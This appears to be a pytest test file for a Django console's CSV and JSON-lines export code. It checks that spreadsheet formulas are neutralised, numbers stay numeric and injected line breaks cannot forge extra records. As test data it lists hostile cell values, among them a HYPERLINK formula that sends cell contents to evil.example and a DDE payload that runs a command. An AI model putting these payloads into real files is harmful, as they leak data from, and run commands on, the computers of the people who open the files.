"""Exports: no cell is a formula, no record is two, and everything can be had back."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from orkestr_console.accounts import audit, usage
from orkestr_console.accounts.actor import Actor
from orkestr_console.accounts.models import Metric, Team, UsageDay
from orkestr_console.ui.downloads import FORMULA_PREFIXES, csv_file, json_lines_file, safe_cell

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "'=1+1",
)
ENDS = ("\n", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1e")


def table(answer: Any) -> list[list[str]]:
    text = answer.content.decode()
    assert answer.headers["Content-Disposition"].startswith("attachment; ")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_spreadsheet_computes_a_cell(console: Client, console_actor: Actor) -> None:
    for formula in FORMULAS:
        audit.record(console_actor, formula[:60], name=formula, object_id=formula[:60])
    header, *rows = table(console.get("/team/audit/csv/"))
    assert len(rows) == len(FORMULAS)
    assert all(len(row) == len(header) for row in rows)
    cells = [one for row in rows for one in row]
    assert [one for one in cells if one.lstrip(" ").startswith(tuple(FORMULA_PREFIXES[:-1]))] == []
    names = [row[header.index("object_name")] for row in reversed(rows)]
    # All of it can be had back: one apostrophe off each cell that has one. Controls are marked.
    assert [name[1:] for name in names] == [f.replace("\r", "\u27e8U+000D\u27e9") for f in FORMULAS]


def test_numbers_stay_numbers(console: Client, team: Team) -> None:
    UsageDay.objects.create(team=team, day=usage.today(), metric=Metric.VCPU_SECONDS, amount=12.5)
    header, *rows = table(console.get("/team/usage/csv/"))
    assert header == ["day", *Metric.values]
    assert all(float(one) >= 0 for row in rows for one in row[1:])
    assert "12.500" in [row[1] for row in rows]
    assert safe_cell(-1.5) == -1.5
    assert b"-1.5\r\n" in csv_file("x.csv", ["a"], [[-1.5]]).content


@pytest.mark.parametrize("end", ENDS, ids=ascii)
def test_a_record_is_a_line_for_every_reader(
    console: Client, console_actor: Actor, end: str
) -> None:
    forged = f'x{end}{{"at": "2026", "who": "nobody"}}\x1b[31m\x9b\u202e'
    audit.record(console_actor, "test.write", name=forged, data={forged: forged})
    text = console.get("/team/audit/jsonl/").content.decode()
    # Python's own idea of lines is the widest there is.
    lines = text.splitlines()
    assert len(lines) == 1
    found = json.loads(lines[0])
    assert found["object_name"] == forged and found["data"] == {forged: forged}
    assert text.isascii() and "\x1b" not in text


@given(st.text())
def test_whatever_the_text_is(text: str) -> None:
    shown = safe_cell(text)
    assert isinstance(shown, str)
    assert not shown.startswith(tuple(mark for mark in FORMULA_PREFIXES if mark != "'"))
    answer = json_lines_file("x.jsonl", [{"x": text}])
    assert len(answer.content.decode().splitlines()) == 1
    assert json.loads(answer.content) == {"x": text}
